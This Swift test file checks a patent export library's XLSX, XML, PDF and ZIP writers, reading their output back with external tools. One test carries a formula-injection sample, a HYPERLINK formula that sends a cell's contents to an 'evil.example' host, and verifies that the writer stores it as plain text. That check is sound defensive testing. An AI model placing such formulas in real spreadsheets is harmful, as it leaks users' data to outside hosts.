import Crypto
import Foundation
import PatentImport
import PatentModel
import PatentQuery
import PatentTestSupport
import Testing
@testable import PatentExport

/// The test helpers' Python (`make test` installs openpyxl into .build/venv).

func writeFile(_ type: ExportType, _ codes: String, _ records: [ExportRecord], languages: ExportLanguages = ExportLanguages()) throws -> String {
    // openpyxl goes by the extension.
    let path = FileManager.default.temporaryDirectory.appendingPathComponent("export-\(UUID().uuidString).\(type == .xls ? "xlsx" : "zip")").path
    let writer = try ExportFormat.writer(type, path: path, fields: fields(codes), languages: languages)
    for record in records { try writer.write(record) }
    try writer.finish()
    return path
}

@Suite struct XLSXTests {
    /// openpyxl's view of the first sheet: cells, their types, the header's font, panes, widths.
    static let reader = """
        import json, sys, openpyxl
        sheet = openpyxl.load_workbook(sys.argv[1]).active
        cells = [[None if c.value is None else (c.value.strftime('%Y-%m-%d') if hasattr(c.value, 'strftime') else c.value)
                  for c in row] for row in sheet.iter_rows()]
        print(json.dumps({"title": sheet.title, "cells": cells, "bold": [c.font.bold for c in sheet[1]],
                          "dates": [c.is_date for c in sheet[2]], "freeze": sheet.freeze_panes,
                          "widths": [sheet.column_dimensions[k].width for k in ["A", "B"]]}))
        """

    /// xlsx cells are inline strings, never formulas: a formula-looking title reads back as
    /// the text, with no `<f>` element in the sheet.
    @Test func formulaLookingTextStaysText() throws {
        let path = try writeFile(.xls, "PN,TTL,IN", [ExportWriterTests.formulaPatent()])
        defer { try? FileManager.default.removeItem(atPath: path) }
        let reader = """
            import json, sys, openpyxl
            sheet = openpyxl.load_workbook(sys.argv[1]).active
            print(json.dumps([[c.value, c.data_type] for c in sheet[2]]))
            """
        let cells = try #require(try JSONSerialization.jsonObject(with: Data(try run(testPython, ["-c", reader, path]).utf8)) as? [[String]])
        #expect(cells.map { $0[0] } == ["US1234567B1", #"=HYPERLINK("http://evil.example/?"&B2,"click")"#, "+1 Smith | Jones"])
        #expect(cells.map { $0[1] } == ["s", "s", "s"], "every cell a string, none a formula ('f')")
        let sheet = try run("/usr/bin/unzip", ["-p", path, "xl/worksheets/sheet1.xml"])
        #expect(!sheet.contains("<f>") && !sheet.contains("<f "))
        #expect(sheet.contains("inlineStr"))
    }

    @Test func openpyxlReadsValuesDatesHeaderAndPanes() throws {
        var long = samplePatent()
        var patent = long.patent
        patent.abstracts = [LocalizedParagraphs(language: "en", paragraphs: [String(repeating: "ab", count: 20_000)])]
        long = ExportRecord(patent: patent, families: [:])
        let path = try writeFile(.xls, "PN,APD,TTL,AN,ABST", [samplePatent(), long])
        defer { try? FileManager.default.removeItem(atPath: path) }
        let json = try run(testPython, ["-c", Self.reader, path])
        let sheet = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any])
        let cells = try #require(sheet["cells"] as? [[Any]])
        #expect(sheet["title"] as? String == "Patents")
        #expect(cells.count == 3)
        #expect(cells[0] as? [String] == ["PN", "APD", "TTL", "AN", "ABST"])
        #expect(cells[1][0] as? String == "CN110000001A")
        #expect(cells[1][1] as? String == "2019-01-02")
        #expect(cells[1][2] as? String == "A battery, \"improved\"")
        // Joined with " | ", the XML-illegal \u{1} dropped.
        #expect(cells[1][3] as? String == "ACME <Batteries> & Co | BetaCorp")
        #expect(cells[1][4] as? String == "第一段\n第二段")
        let cut = try #require(cells[2][4] as? String)
        #expect(cut.utf16.count == 32_767)
        #expect(cut.hasSuffix(XLSXExportWriter.cutMarker))
        #expect(sheet["bold"] as? [Bool] == [true, true, true, true, true])
        #expect(sheet["dates"] as? [Bool] == [false, true, false, false, false])
        #expect(sheet["freeze"] as? String == "A2")
        let widths = try #require(sheet["widths"] as? [Double])
        #expect(widths.count == 2 && widths.allSatisfy { $0 >= 8 }, "\(widths)")
    }

    /// LibreOffice (Debian's libreoffice-calc-nogui) converts the workbook to CSV; the
    /// cells must read as written, CJK included (the `76` asks for UTF-8).
    @Test func libreOfficeReadsTheWorkbook() throws {
        let path = try writeFile(.xls, "PN,APD,TTL,ABST,IPC", [samplePatent()], languages: ExportLanguages(lang: "cn"))
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("lo-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer {
            try? FileManager.default.removeItem(atPath: path)
            try? FileManager.default.removeItem(atPath: folder)
        }
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/soffice")
        process.arguments = ["--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", folder, path]
        process.environment = ["HOME": folder, "PATH": "/usr/bin:/bin"]
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0)
        let csv = folder + "/" + URL(fileURLWithPath: path).deletingPathExtension().lastPathComponent + ".csv"
        let text = try String(contentsOfFile: csv, encoding: .utf8)
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.first == "PN,APD,TTL,ABST,IPC")
        #expect(text.contains("CN110000001A,2019-01-02,一种电池,"))
        #expect(text.contains("\"第一段\n第二段\""))
        #expect(text.contains("H01M10/0525 | H01M4/00"))
    }

    @Test func columnNamesAndExcelDates() {
        #expect(XLSXExportWriter.column(0) == "A")
        #expect(XLSXExportWriter.column(25) == "Z")
        #expect(XLSXExportWriter.column(26) == "AA")
        #expect(XLSXExportWriter.column(701) == "ZZ")
        #expect(XLSXExportWriter.column(702) == "AAA")
        #expect(XLSXExportWriter.excelSerial("1900-03-01") == 61)
        #expect(XLSXExportWriter.excelSerial("2019-01-02") == 43_467)
    }
}

@Suite struct FullTextTests {
    static let schema = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("schemas/full-text.xsd").path

    func fullTextPatent() -> ExportRecord {
        var patent = samplePatent().patent
        patent.claims = [ClaimSet(language: "en", claims: [Claim(number: 1, text: "A cell & <anode>."),
                                                             Claim(number: 2, text: "The cell of claim 1.", refersTo: [1])])]
        patent.descriptions = [Description(language: "en", paragraphs: [.init(.heading, "FIELD"), .init(.paragraph, "Batteries\u{2}.")])]
        return ExportRecord(patent: patent, families: [:])
    }

    @Test func zipOfValidDocumentsWithUniqueNames() throws {
        let path = try writeFile(.fullText, "PN,ABST,CLMS,DESC", [fullTextPatent(), fullTextPatent()])
        defer { try? FileManager.default.removeItem(atPath: path) }
        #expect(try run("/usr/bin/unzip", ["-t", path]).contains("No errors detected"))
        let listing = try run("/usr/bin/unzip", ["-Z1", path]).split(separator: "\n")
        #expect(listing == ["CN110000001A.xml", "CN110000001A_2.xml"])
        let folder = path + "-files"
        _ = try run("/usr/bin/unzip", ["-q", path, "-d", folder])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        for name in listing {
            let file = folder + "/" + name
            let validation = Process()
            validation.executableURL = URL(fileURLWithPath: "/usr/bin/xmllint")
            validation.arguments = ["--noout", "--schema", Self.schema, file]
            validation.standardError = FileHandle.nullDevice
            try validation.run()
            validation.waitUntilExit()
            #expect(validation.terminationStatus == 0, "\(name) does not validate")
        }
        let text = try String(contentsOfFile: folder + "/CN110000001A.xml", encoding: .utf8)
        #expect(text.hasPrefix("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"))
        #expect(text.contains("<claim num=\"1\">A cell &amp; &lt;anode&gt;.</claim>"))
        #expect(text.contains("<claim num=\"2\" refers-to=\"1\">The cell of claim 1.</claim>"))
        #expect(text.contains("<heading>FIELD</heading>\n<p>Batteries.</p>"))
        #expect(text.contains("<ABST lang=\"zh\"><p>第一段</p><p>第二段</p></ABST>"))
    }

    @Test func onlyTheRequestedPartsAreWritten() throws {
        let path = try writeFile(.fullText, "PN,CLMS", [fullTextPatent()])
        defer { try? FileManager.default.removeItem(atPath: path) }
        let text = try run("/usr/bin/unzip", ["-p", path, "CN110000001A.xml"])
        #expect(text.contains("<CLMS lang=\"en\">"))
        #expect(!text.contains("<ABST") && !text.contains("<DESC"))
    }
}

/// PDFs read back with poppler (pdfinfo, pdftotext, pdffonts), on real Chinese and
/// Japanese patents from the fixtures.
@Suite struct PDFTests {
    static let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Fixtures/cnipa-jpo").path

    func patent(_ file: String) throws -> ExportRecord {
        let bytes = try Array(Data(contentsOf: URL(fileURLWithPath: Self.fixtures + "/" + file)))
        guard case .success(let patents) = DocumentDecoder.decode(bytes), let patent = patents.first else {
            throw ExportError.io("\(file) does not decode")
        }
        return ExportRecord(patent: patent, families: [:])
    }

    /// Text without any whitespace, so line wrapping does not matter when comparing.
    func squeezed(_ text: String) -> String { String(text.unicodeScalars.filter { !$0.properties.isWhitespace }.map(Character.init)) }

    @Test(arguments: ["cn_new1.xml", "jp_example1.xml"])
    func textExtractsWithEmbeddedFonts(file: String) throws {
        let record = try patent(file)
        let languages = ExportLanguages(lang: file.hasPrefix("cn") ? "cn" : "jp")
        let path = try writeFile(.pdf, "PN,TTL,APD,AN,IPC,ABST,CLMS", [record, record], languages: languages)
        defer { try? FileManager.default.removeItem(atPath: path) }
        let pn = FullTextExportWriter.safeName(record.patent.pn)
        #expect(try run("/usr/bin/unzip", ["-Z1", path]).split(separator: "\n") == ["\(pn).pdf", "\(pn)_2.pdf"])
        let folder = path + "-files"
        _ = try run("/usr/bin/unzip", ["-q", path, "-d", folder])
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let pdf = folder + "/\(pn).pdf"
        let info = try run("/usr/bin/pdfinfo", [pdf])
        #expect(info.contains("595.276 x 841.89 pts (A4)"))
        let text = squeezed(try run("/usr/bin/pdftotext", ["-enc", "UTF-8", pdf, "-"]))
        let title = try #require(record.value("TTL", languages: languages).values.first)
        #expect(text.contains(squeezed(title)), "title \(title)")
        #expect(text.contains(record.patent.pn))
        let claims = try #require(record.claims(languages)?.claims)
        #expect(!claims.isEmpty)
        #expect(text.contains(squeezed(claims[0].text)), "first claim")
        if let abstract = record.abstract(languages)?.paragraphs.first { #expect(text.contains(squeezed(abstract))) }
        // Every font embedded (pdffonts' "emb" column).
        let table = try run("/usr/bin/pdffonts", [pdf]).split(separator: "\n").map(String.init)
        let emb = try #require(table.first?.range(of: " emb ")).lowerBound
        let column = table[0].distance(from: table[0].startIndex, to: emb) + 1
        let fonts = table.dropFirst(2)
        #expect(!fonts.isEmpty)
        for font in fonts { #expect(font.dropFirst(column).prefix(3) == "yes", "\(font)") }
        // Page numbers.
        #expect(text.contains("Page1"))
    }
}

/// Our ZIP writer read back by independent readers: Info-ZIP's `unzip` and Python's `zipfile`.
@Suite struct ZipOutputTests {
    static let pythonReader = """
        import sys, zipfile, hashlib, json
        with zipfile.ZipFile(sys.argv[1]) as z:
            bad = z.testzip()
            names = z.namelist()
            print(json.dumps({"bad": bad, "count": len(names), "first": names[0], "last": names[-1],
                              "sha": hashlib.sha256(z.read(names[-1])).hexdigest()}))
        """

    @Test func entriesFromMemoryAndFilesReadBackWithTheirCRCs() throws {
        let directory = try temporaryDirectory("zip")
        let part = directory + "/part.bin"
        var random = SystemRandomNumberGenerator()
        // 3 MB of mixed text and noise: several deflate chunks, both compressible and not.
        var bytes = [UInt8](repeating: 0, count: 3_000_000)
        for i in bytes.indices { bytes[i] = i % 3 == 0 ? UInt8.random(in: 0...255, using: &random) : UInt8(65 + i % 26) }
        try Data(bytes).write(to: URL(fileURLWithPath: part))
        let path = directory + "/out.zip"
        let zip = try ZipOutput(path: path)
        try zip.add("empty.txt", Data())
        try zip.add("電池/名前.xml", Data("<a>電池</a>".utf8))
        try zip.add("parts.bin", parts: [.bytes(Data("head".utf8)), .file(part, size: bytes.count), .bytes(Data("tail".utf8))])
        try zip.finish()
        #expect(try run("/usr/bin/unzip", ["-t", path]).contains("No errors detected"))
        #expect(try run("/usr/bin/unzip", ["-p", path, "電池/名前.xml"]) == "<a>電池</a>")
        let read = try JSONSerialization.jsonObject(with: Data(try run(testPython, ["-c", Self.pythonReader, path]).utf8)) as! [String: Any]
        #expect(read["bad"] is NSNull)
        #expect(read["count"] as? Int == 3)
        let expected = sha256Hex(Data("head".utf8) + Data(bytes) + Data("tail".utf8))
        #expect(read["sha"] as? String == expected)
    }

    @Test func moreThan65535EntriesEndWithZIP64Records() throws {
        let directory = try temporaryDirectory("zip64")
        let path = directory + "/many.zip"
        let zip = try ZipOutput(path: path)
        for i in 0..<70_000 { try zip.add(zip.uniqueName("e", extension: "txt"), Data("entry \(i)".utf8)) }
        try zip.finish()
        let read = try JSONSerialization.jsonObject(with: Data(try run(testPython, ["-c", Self.pythonReader, path]).utf8)) as! [String: Any]
        #expect(read["bad"] is NSNull)
        #expect(read["count"] as? Int == 70_000)
        #expect(read["first"] as? String == "e.txt")
        #expect(read["last"] as? String == "e_70000.txt")
        #expect(read["sha"] as? String == sha256Hex(Data("entry 69999".utf8)))
        let bytes = try Data(contentsOf: URL(fileURLWithPath: path))
        // The ZIP64 end of central directory record and its locator precede the classic end record.
        #expect(bytes.suffix(22 + 20 + 56).prefix(4) == Data([0x50, 0x4b, 0x06, 0x06]))
        #expect(bytes.suffix(22).dropFirst(8).prefix(2) == Data([0xFF, 0xFF]))
    }
}

private func sha256Hex(_ data: Data) -> String { SHA256.hash(data: data).map { String(format: "%02x", $0) }.joined() }

@Suite struct FileDigestTests {
    @Test(arguments: [ExportType.csv, .json, .xml])
    func textFormatsHashWhatTheyWrite(_ type: ExportType) throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("digest-\(UUID().uuidString)").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        let writer = try ExportFormat.writer(type, path: path, fields: fields("PN,TTL,AN,ABST"), languages: ExportLanguages())
        for _ in 0..<3_000 { try writer.write(samplePatent()) }  // several buffers' worth
        try writer.finish()
        let bytes = try Data(contentsOf: URL(fileURLWithPath: path))
        #expect(bytes.count > 200_000)
        #expect(writer.fileDigest == FileDigest(size: bytes.count, sha256: Array(SHA256.hash(data: bytes))))
    }

    @Test func bytesWrittenAgainInPlaceLeaveNoDigest() throws {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("overwrite-\(UUID().uuidString)").path
        defer { try? FileManager.default.removeItem(atPath: path) }
        let output = try FileOutput(path: path)
        try output.write(Array("header body".utf8))
        #expect(output.position == 11)
        try output.overwrite(Array("HEADER".utf8), at: 0)
        try output.write(Array(" tail".utf8))
        try output.finish()
        #expect(output.digest == nil)
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "HEADER body tail")
    }

    @Test func zipFormatsAreHashedAfterwards() throws {
        let path = try writeFile(.xls, "PN", [samplePatent()])
        defer { try? FileManager.default.removeItem(atPath: path) }
        let writer = try ExportFormat.writer(.xls, path: path, fields: fields("PN"), languages: ExportLanguages())
        #expect(writer.fileDigest == nil)
    }
}
